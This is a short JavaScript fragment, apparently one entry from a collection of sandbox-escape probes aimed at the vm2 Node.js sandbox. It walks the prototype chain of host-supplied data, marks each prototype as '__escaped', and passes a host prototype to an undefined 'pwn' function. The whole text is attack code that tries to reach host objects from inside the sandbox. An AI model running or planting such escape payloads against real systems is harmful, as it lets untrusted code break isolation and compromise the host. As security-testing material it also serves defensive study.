// vm2 class: __proto__ of host data
let o = data; for (let i = 0; i < 5 && o; i++) { o.__escaped = true; o = Object.getPrototypeOf(o); } pwn(Object.getPrototypeOf(data.list)); 1
